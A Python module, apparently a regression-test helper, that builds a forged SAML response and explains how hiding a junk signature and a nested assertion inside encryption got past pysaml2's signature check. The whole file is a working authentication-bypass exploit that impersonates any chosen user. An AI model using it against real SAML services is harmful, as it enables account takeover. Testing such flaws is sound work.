"""A forged SAML response built from public things only: this site's encryption certificate
(its metadata), its entity id and reply URL, and the identity provider's entity id. The
assertion's junk Signature and a nested assertion in Advice are hidden inside encryption,
which made pysaml2's second decryption pass skip the signature check (see SamlAcsView.
custom_validation)."""

from __future__ import annotations

import base64
import datetime as dt
import os
import re
import uuid

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives import padding as sympad
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

NS_SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
NS_SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
NS_DS = "http://www.w3.org/2000/09/xmldsig#"
NS_XENC = "http://www.w3.org/2001/04/xmlenc#"


def cert_from_metadata(xml: str) -> str:
    match = re.search(r"X509Certificate>([^<]+)</", xml)
    assert match is not None
    body = "".join(match.group(1).split())
    lines = [body[i : i + 64] for i in range(0, len(body), 64)]
    return "-----BEGIN CERTIFICATE-----\n" + "\n".join(lines) + "\n-----END CERTIFICATE-----\n"


def encrypt_element(xml: str, cert_pem: str) -> str:
    """An xenc:EncryptedData holding `xml` for the certificate's key (AES-128-CBC, RSA-OAEP)."""
    cert = x509.load_pem_x509_certificate(cert_pem.encode())
    key, iv = os.urandom(16), os.urandom(16)
    padder = sympad.PKCS7(128).padder()
    data = padder.update(xml.encode()) + padder.finalize()
    encryptor = Cipher(algorithms.AES(key), modes.CBC(iv)).encryptor()
    ciphertext = iv + encryptor.update(data) + encryptor.finalize()
    # RSA-OAEP with SHA-1 is what rsa-oaep-mgf1p means (XML Encryption); it is the key wrap.
    oaep = padding.OAEP(
        mgf=padding.MGF1(hashes.SHA1()),  # noqa: S303
        algorithm=hashes.SHA1(),  # noqa: S303
        label=None,
    )
    wrapped = cert.public_key().encrypt(key, oaep)  # type: ignore[union-attr]
    return (
        f'<xenc:EncryptedData xmlns:xenc="{NS_XENC}" Id="ED_{uuid.uuid4().hex}" '
        f'Type="{NS_XENC}Element"><xenc:EncryptionMethod Algorithm="{NS_XENC}aes128-cbc"/>'
        f'<ds:KeyInfo xmlns:ds="{NS_DS}"><xenc:EncryptedKey Id="EK_{uuid.uuid4().hex}">'
        f'<xenc:EncryptionMethod Algorithm="{NS_XENC}rsa-oaep-mgf1p"/><xenc:CipherData>'
        f"<xenc:CipherValue>{base64.b64encode(wrapped).decode()}</xenc:CipherValue>"
        f"</xenc:CipherData></xenc:EncryptedKey></ds:KeyInfo><xenc:CipherData>"
        f"<xenc:CipherValue>{base64.b64encode(ciphertext).decode()}</xenc:CipherValue>"
        f"</xenc:CipherData></xenc:EncryptedData>"
    )


def _ts(minutes: float = 0) -> str:
    return (dt.datetime.now(dt.UTC) + dt.timedelta(minutes=minutes)).strftime("%Y-%m-%dT%H:%M:%SZ")


def forged_response(
    request_id: str,
    *,
    idp_entity_id: str,
    sp_entity_id: str,
    acs_url: str,
    sp_cert: str,
    name_id: str,
    mail: str,
    employee_id: str,
) -> str:
    aid = "_" + uuid.uuid4().hex
    junk_signature = (
        f'<ds:Signature xmlns:ds="{NS_DS}"><ds:SignedInfo>'
        f'<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
        f'<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>'
        f'<ds:Reference URI="#{aid}"><ds:DigestMethod '
        f'Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>AAAA'
        f"</ds:DigestValue></ds:Reference></ds:SignedInfo>"
        f"<ds:SignatureValue>AAAA</ds:SignatureValue></ds:Signature>"
    )
    dummy = (
        f'<saml:Assertion xmlns:saml="{NS_SAML}" ID="_{uuid.uuid4().hex}" Version="2.0" '
        f'IssueInstant="{_ts()}"><saml:Issuer>{idp_entity_id}</saml:Issuer></saml:Assertion>'
    )
    advice = (
        f"<saml:Advice><saml:EncryptedAssertion>{encrypt_element(dummy, sp_cert)}"
        f"</saml:EncryptedAssertion></saml:Advice>"
    )
    assertion = (
        f'<saml:Assertion xmlns:saml="{NS_SAML}" ID="{aid}" Version="2.0" IssueInstant="{_ts()}">'
        f"<saml:Issuer>{idp_entity_id}</saml:Issuer>{encrypt_element(junk_signature, sp_cert)}"
        f'<saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:2.0:nameid-format:persistent">'
        f"{name_id}</saml:NameID>"
        f'<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">'
        f'<saml:SubjectConfirmationData InResponseTo="{request_id}" NotOnOrAfter="{_ts(5)}" '
        f'Recipient="{acs_url}"/></saml:SubjectConfirmation></saml:Subject>'
        f'<saml:Conditions NotBefore="{_ts(-1)}" NotOnOrAfter="{_ts(5)}"><saml:AudienceRestriction>'
        f"<saml:Audience>{sp_entity_id}</saml:Audience></saml:AudienceRestriction></saml:Conditions>"
        f'{advice}<saml:AuthnStatement AuthnInstant="{_ts()}" SessionIndex="id-{uuid.uuid4().hex}">'
        f"<saml:AuthnContext><saml:AuthnContextClassRef>"
        f"urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"
        f"</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>"
        f'<saml:AttributeStatement><saml:Attribute Name="mail"><saml:AttributeValue>{mail}'
        f'</saml:AttributeValue></saml:Attribute><saml:Attribute Name="employeeNumber">'
        f"<saml:AttributeValue>{employee_id}</saml:AttributeValue></saml:Attribute>"
        f"</saml:AttributeStatement></saml:Assertion>"
    )
    response = (
        f'<samlp:Response xmlns:samlp="{NS_SAMLP}" xmlns:saml="{NS_SAML}" ID="_{uuid.uuid4().hex}" '
        f'InResponseTo="{request_id}" Version="2.0" IssueInstant="{_ts()}" Destination="{acs_url}">'
        f"<saml:Issuer>{idp_entity_id}</saml:Issuer><samlp:Status><samlp:StatusCode "
        f'Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>'
        f"<saml:EncryptedAssertion>{encrypt_element(assertion, sp_cert)}</saml:EncryptedAssertion>"
        f"</samlp:Response>"
    )
    return base64.b64encode(response.encode()).decode()
